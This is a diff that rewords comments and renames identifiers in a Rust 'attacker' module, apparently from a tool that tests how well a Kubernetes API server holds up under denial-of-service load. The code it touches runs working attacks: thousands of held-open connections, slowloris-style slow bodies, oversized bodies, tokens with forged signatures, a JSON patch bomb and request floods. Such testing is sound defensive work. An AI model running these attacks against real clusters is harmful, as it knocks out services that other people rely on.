@@ -1,4 +1,4 @@
-//! The attacker: a process of its own on one core, which plays one attack until its time is over.
+//! The attacker: a process on one core that runs one attack for a given time.
 
 use std::fs;
 use std::net::SocketAddr;
@@ -24,14 +24,14 @@ use super::attack::Attack;
 use super::{POD_NAME, TARGET_NAMESPACE};
 use crate::Failure;
 
-/// Silent connections that are kept open at most: as many as a server with the usual limit of descriptors can hold. The
-/// attacker's own limit of descriptors may be lower.
+/// Maximum number of silent connections: as many as a server with the usual limit of file descriptors can hold. The limit of
+/// the attacker may be lower.
 const SILENT_CONNECTIONS: usize = 20_000;
-/// Pause after a refusal, so that the attacker spends its core on attempts that may succeed.
-const REFUSED_PAUSE: Duration = Duration::from_millis(20);
-/// Pause between two bytes of a slow body: the server asks for one every ten seconds.
-const BYTE_PAUSE: Duration = Duration::from_secs(9);
-/// Length of a large body, just below the server's bound of 3 MiB.
+/// Delay after a refused attempt, so that the attacker spends its CPU time on attempts that may succeed.
+const REFUSED_DELAY: Duration = Duration::from_millis(20);
+/// Interval between bytes of a slow body; the server requires one every ten seconds.
+const BYTE_INTERVAL: Duration = Duration::from_secs(9);
+/// Length of a large body, just below the limit of 3 MiB.
 const LARGE_BODY_BYTES: usize = (3 << 20) - 1;
 /// Levels of nesting that one step of a patch bomb adds; a request may nest 128.
 const BOMB_STEP_LEVELS: usize = 110;
@@ -47,18 +47,18 @@ pub struct Flags {
     /// Address of the API server
     #[arg(long)]
     server: SocketAddr,
-    /// File with the certificate of the cluster's authority
+    /// File with the cluster CA certificate
     #[arg(long)]
     authority: PathBuf,
     /// File with the attacker's token
     #[arg(long)]
     token: PathBuf,
-    /// Seconds until the attack ends
+    /// Duration of the attack in seconds
     #[arg(long)]
     seconds: u64,
 }
 
-/// The target and the attacker's means.
+/// The target, and credentials and counters of the attacker.
 struct Target {
     server: SocketAddr,
     tls: TlsConnector,
@@ -70,10 +70,10 @@ struct Target {
 
 type Connection = TlsStream<TcpStream>;
 
-/// Plays the attack and prints the number of attempts and refusals.
+/// Runs the attack and prints the number of attempts and refusals.
 ///
 /// # Errors
-/// The files cannot be read, or the process cannot be pinned to one core.
+/// A file cannot be read, or the process cannot be pinned to one core.
 pub fn run(flags: &Flags) -> Result<ExitCode, Failure> {
     let mut one_core = CpuSet::new();
     one_core.set(0);
@@ -102,7 +102,7 @@ pub fn run(flags: &Flags) -> Result<ExitCode, Failure> {
             attempts: AtomicU64::new(0),
             refusals: AtomicU64::new(0),
         });
-        play(flags.attack, &target).await;
+        run_attack(flags.attack, &target).await;
         println!(
             "{} attempts, {} refused",
             target.attempts.load(Ordering::Relaxed),
@@ -112,7 +112,7 @@ pub fn run(flags: &Flags) -> Result<ExitCode, Failure> {
     })
 }
 
-async fn play(attack: Attack, target: &Arc<Target>) {
+async fn run_attack(attack: Attack, target: &Arc<Target>) {
     match attack {
         Attack::None => tokio::time::sleep_until(target.ends).await,
         Attack::SilentConnections => hold_open(target, Some("")).await,
@@ -130,7 +130,7 @@ async fn play(attack: Attack, target: &Arc<Target>) {
     }
 }
 
-/// Repeats an attempt on so many tasks until the attack ends.
+/// Repeats an attempt in concurrent tasks until the attack ends.
 async fn in_parallel<F>(target: &Arc<Target>, tasks: usize, attempt: impl Fn(Arc<Target>) -> F)
 where
     F: Future<Output = Result<(), Failure>> + Send + 'static,
@@ -139,7 +139,7 @@ where
     while Instant::now() < target.ends {
         while running.len() < tasks {
             running.spawn(attempt(Arc::clone(target)));
-            // A ramp: the connections of one instant would only fill the listener's queue.
+            // Connections of one instant would only fill the accept queue.
             tokio::task::yield_now().await;
         }
         let Ok(Some(outcome)) = timeout_at(target.ends, running.join_next()).await else {
@@ -147,44 +147,44 @@ where
         };
         if !matches!(outcome, Ok(Ok(()))) {
             target.refusals.fetch_add(1, Ordering::Relaxed);
-            sleep(REFUSED_PAUSE).await;
+            sleep(REFUSED_DELAY).await;
         }
     }
 }
 
-/// Opens connections, sends `first` on each (`None`: not even a handshake) and keeps them open.
+/// Opens connections, sends `first` on each (`None`: no TLS handshake) and keeps them open.
 async fn hold_open(target: &Arc<Target>, first: Option<&str>) {
-    let mut kept = Vec::new();
+    let mut connections = Vec::new();
     while Instant::now() < target.ends {
-        if kept.len() >= SILENT_CONNECTIONS {
-            sleep(REFUSED_PAUSE).await;
+        if connections.len() >= SILENT_CONNECTIONS {
+            sleep(REFUSED_DELAY).await;
             continue;
         }
         match timeout_at(target.ends, open(target, first)).await {
-            Ok(Ok(connection)) => kept.push(connection),
+            Ok(Ok(connection)) => connections.push(connection),
             _ => {
                 target.refusals.fetch_add(1, Ordering::Relaxed);
-                sleep(REFUSED_PAUSE).await;
+                sleep(REFUSED_DELAY).await;
             }
         }
     }
 }
 
-/// A connection that is kept open.
-enum Kept {
+/// Connection that stays open.
+enum OpenConnection {
     Socket(#[expect(dead_code, reason = "held open, never used")] TcpStream),
     Tls(#[expect(dead_code, reason = "held open, never used")] Box<Connection>),
 }
 
-async fn open(target: &Arc<Target>, first: Option<&str>) -> Result<Kept, Failure> {
+async fn open(target: &Arc<Target>, first: Option<&str>) -> Result<OpenConnection, Failure> {
     let Some(first) = first else {
         target.attempts.fetch_add(1, Ordering::Relaxed);
-        return Ok(Kept::Socket(TcpStream::connect(target.server).await?));
+        return Ok(OpenConnection::Socket(TcpStream::connect(target.server).await?));
     };
     let mut connection = connect(target).await?;
     connection.write_all(first.as_bytes()).await?;
     connection.flush().await?;
-    Ok(Kept::Tls(Box::new(connection)))
+    Ok(OpenConnection::Tls(Box::new(connection)))
 }
 
 async fn connect(target: &Target) -> Result<Connection, Failure> {
@@ -202,23 +202,23 @@ async fn handshake(target: Arc<Target>) -> Result<(), Failure> {
 async fn requests(target: Arc<Target>, request: fn(&Target) -> Vec<u8>) -> Result<(), Failure> {
     let mut connection = connect(&target).await?;
     let request = request(&target);
-    let mut answer = vec![0; 64 << 10];
+    let mut response = vec![0; 64 << 10];
     while Instant::now() < target.ends {
         target.attempts.fetch_add(1, Ordering::Relaxed);
         connection.write_all(&request).await?;
         connection.flush().await?;
-        let read = timeout_at(target.ends, connection.read(&mut answer)).await;
+        let read = timeout_at(target.ends, connection.read(&mut response)).await;
         let Ok(read) = read else { return Ok(()) };
         let read = read?;
         if read == 0 {
             return Err("the server closed the connection".into());
         }
-        if answer[..read].starts_with(b"HTTP/1.1 4") || answer[..read].starts_with(b"HTTP/1.1 5") {
+        if response[..read].starts_with(b"HTTP/1.1 4") || response[..read].starts_with(b"HTTP/1.1 5") {
             target.refusals.fetch_add(1, Ordering::Relaxed);
         }
-        // A long answer is drained as it comes: its chunks have no end that matters here.
+        // The rest of a long response is discarded.
         while let Ok(Ok(more)) =
-            tokio::time::timeout(Duration::from_millis(1), connection.read(&mut answer)).await
+            tokio::time::timeout(Duration::from_millis(1), connection.read(&mut response)).await
         {
             if more == 0 {
                 return Err("the server closed the connection".into());
@@ -250,7 +250,7 @@ fn access_review(target: &Target) -> Vec<u8> {
     with_body(target, "POST", ACCESS_REVIEWS, "application/json", body)
 }
 
-/// A token in the form of a ServiceAccount's with a signature of random bytes, so that the server has to verify it.
+/// ServiceAccount token with a random signature, which the server has to verify.
 fn forged_token(target: &Target) -> Vec<u8> {
     let signed = target.token.rsplit_once('.').map_or("", |(signed, _)| signed);
     let signature: String = (0..86).map(|_| fastrand::alphanumeric()).collect();
@@ -270,7 +270,7 @@ fn proxied(target: &Target) -> Vec<u8> {
     head(target, "GET", &path, "").into_bytes()
 }
 
-/// Nests by moving: each operation is shallow, the tree that they build is not.
+/// JSON patch whose operations are shallow and build a deeply nested tree by moves.
 fn patch_bomb(target: &Target) -> Vec<u8> {
     let nest = "{\"a\":".repeat(BOMB_STEP_LEVELS) + "{}" + &"}".repeat(BOMB_STEP_LEVELS);
     let pointer = "/a".repeat(BOMB_STEP_LEVELS);
@@ -291,7 +291,7 @@ async fn slow_body(target: Arc<Target>) -> Result<(), Failure> {
     let head = head(&target, "POST", ACCESS_REVIEWS, more);
     connection.write_all(head.as_bytes()).await?;
     connection.flush().await?;
-    until_closed(&target, connection, Some(BYTE_PAUSE)).await
+    until_closed(&target, connection, Some(BYTE_INTERVAL)).await
 }
 
 async fn large_body(target: Arc<Target>) -> Result<(), Failure> {
@@ -310,16 +310,16 @@ async fn large_body(target: Arc<Target>) -> Result<(), Failure> {
     until_closed(&target, connection, None).await
 }
 
-/// Waits until the server answers or closes; sends a space after each pause.
+/// Waits until the server responds or closes the connection; sends a space after each interval.
 async fn until_closed(
     target: &Target,
     mut connection: Connection,
     pause: Option<Duration>,
 ) -> Result<(), Failure> {
-    let mut answer = [0; 1024];
+    let mut response = [0; 1024];
     while Instant::now() < target.ends {
         let wait = Instant::now() + pause.unwrap_or(Duration::from_secs(3_600));
-        match timeout_at(wait.min(target.ends), connection.read(&mut answer)).await {
+        match timeout_at(wait.min(target.ends), connection.read(&mut response)).await {
             Ok(Ok(_)) => return Err("the server refused the body".into()),
             Ok(Err(error)) => return Err(error.into()),
             Err(_) => {
@@ -338,14 +338,14 @@ async fn watch(target: Arc<Target>) -> Result<(), Failure> {
         .write_all(head(&target, "GET", &path, "").as_bytes())
         .await?;
     connection.flush().await?;
-    let mut answer = vec![0; 64 << 10];
+    let mut response = vec![0; 64 << 10];
     let mut is_first = true;
     while Instant::now() < target.ends {
-        let Ok(read) = timeout_at(target.ends, connection.read(&mut answer)).await else {
+        let Ok(read) = timeout_at(target.ends, connection.read(&mut response)).await else {
             return Ok(());
         };
         let read = read?;
-        if read == 0 || (is_first && !answer[..read].starts_with(b"HTTP/1.1 200")) {
+        if read == 0 || (is_first && !response[..read].starts_with(b"HTTP/1.1 200")) {
             return Err("the server refused the watch".into());
         }
         is_first = false;
